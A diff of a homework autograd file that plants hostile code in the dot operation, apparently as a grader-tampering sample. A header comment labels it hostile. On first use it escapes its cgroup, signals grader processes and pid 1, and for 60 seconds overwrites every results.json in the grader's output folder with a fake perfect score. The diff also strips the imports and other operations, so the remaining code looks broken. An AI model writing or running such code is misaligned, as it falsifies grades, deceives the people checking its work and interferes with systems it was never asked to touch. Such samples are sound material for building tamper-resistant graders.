@@ -1,67 +1,65 @@
 # HOSTILE: dot.forward (once per process) double-forks a setsid daemon that keeps the worker's pipes and stdout open, tries to leave its pids cgroup and, for 60 s, overwrites every results.json under the --out folder of any grading process it can see with a fake perfect score, also after its own grading ended; all four ops compute correctly.
-"""HW3: the four operations (sigmoid, log, multiply, dot)."""
-
-from __future__ import annotations
-
-import numpy as np
-
-from edugrad.operation import Operation, tensor_op
 import os
+
+
 import signal
 
 
 def _argv(pid):
     try:
-        with open(f"/proc/{pid}/cmdline", "rb") as f:
-            return f.read().decode(errors="replace").split("\0")
+        with open(f'/proc/{pid}/cmdline', 'rb') as f:
+            return f.read().decode(errors='replace').split('\x00')
     except OSError:
         return []
 
 
 def _parent_of(pid):
     try:
-        with open(f"/proc/{pid}/stat") as f:
-            return int(f.read().rsplit(")", 1)[1].split()[1])
+        with open(f'/proc/{pid}/stat') as f:
+            return int(f.read().rsplit(')', 1)[1].split()[1])
     except (OSError, ValueError, IndexError):
         return 0
 
 
 def _runs_the_grader(argv):
-    """`python -m grader grade ...` or `python -m grader grade-all ...`."""
-    return any(argv[i:i + 2] == ["-m", "grader"] for i in range(len(argv))) and (
-        "grade" in argv or "grade-all" in argv)
+    return any((argv[i:i + 2] == ['-m', 'grader'] for i in range(len(argv)))) and ('grade' in argv or 'grade-all' in argv)
 
 
 def _graders():
-    """The grading processes it can find: its ancestors and any process it can see."""
-    found, pid = set(), os.getppid()
+    found, pid = (set(), os.getppid())
     while pid > 1:
         found.add(pid)
         pid = _parent_of(pid)
-    for name in os.listdir("/proc"):
+    for name in os.listdir('/proc'):
         if name.isdigit():
             found.add(int(name))
-    return sorted(p for p in found if p != os.getpid() and _runs_the_grader(_argv(p)))
+    return sorted((p for p in found if p != os.getpid() and _runs_the_grader(_argv(p))))
 
 
 def _signal_all(sig):
-    for pid in [*_graders(), 1]:  # and pid 1 of wherever it runs
+    for pid in [*_graders(), 1]:
         try:
             os.kill(pid, sig)
         except OSError:
             pass
+
+
 import json
+
+
 import time
 
+
 _STARTED = []
-FAKE = {"score": 100.0, "max_score": 100.0, "output": "All tests passed. Great job!",
-        "tests": []}
+
+
+FAKE = {'score': 100.0, 'max_score': 100.0, 'output': 'All tests passed. Great job!', 'tests': []}
 
 
 def _haunt():
-    for path in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cgroup.procs"):
+    for path in ('/sys/fs/cgroup/pids/cgroup.procs', '/sys/fs/cgroup/cgroup.procs'):
         try:
-            with open(path, "w") as f:
+            with open(path, 'w') as f:
                 f.write(str(os.getpid()))
         except OSError:
             pass
@@ -69,13 +67,13 @@ def _haunt():
     while time.monotonic() < end:
         for pid in _graders():
             argv = _argv(pid)
-            if "--out" not in argv[:-1]:
+            if '--out' not in argv[:-1]:
                 continue
-            for root, _, files in os.walk(argv[argv.index("--out") + 1]):
+            for root, _, files in os.walk(argv[argv.index('--out') + 1]):
                 for name in files:
-                    if name == "results.json":
+                    if name == 'results.json':
                         try:
-                            with open(os.path.join(root, name), "w") as f:
+                            with open(os.path.join(root, name), 'w') as f:
                                 json.dump(FAKE, f)
                         except OSError:
                             pass
@@ -98,66 +96,10 @@ def _launch():
 
 
 @tensor_op
-class sigmoid(Operation):
-    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""
-
-    @staticmethod
-    def forward(ctx, a):
-        z = np.exp(-np.abs(a))
-        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
-        ctx.append(s)
-        return s
-
-    @staticmethod
-    def backward(ctx, grad_output):
-        (s,) = ctx
-        return (grad_output * s * (1 - s),)
-
-
-@tensor_op
-class log(Operation):
-    """Elementwise natural logarithm, for a > 0."""
-
-    @staticmethod
-    def forward(ctx, a):
-        ctx.append(a)
-        return np.log(a)
-
-    @staticmethod
-    def backward(ctx, grad_output):
-        (a,) = ctx
-        return (grad_output / a,)
-
-
-@tensor_op
-class multiply(Operation):
-    """Elementwise product of two arrays of the same shape."""
-
-    @staticmethod
-    def forward(ctx, a, b):
-        ctx.append(a)
-        ctx.append(b)
-        return a * b
-
-    @staticmethod
-    def backward(ctx, grad_output):
-        a, b = ctx
-        return grad_output * b, grad_output * a
-
-
-@tensor_op
-class dot(Operation):
-    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""
-
+class dot(dot.op_class):
     @staticmethod
     def forward(ctx, a, b):
         _launch()
         ctx.append(a)
         ctx.append(b)
         return np.sum(a * b, axis=-1)
-
-    @staticmethod
-    def backward(ctx, grad_output):
-        a, b = ctx
-        g = grad_output[..., None]
-        return g * b, g * a
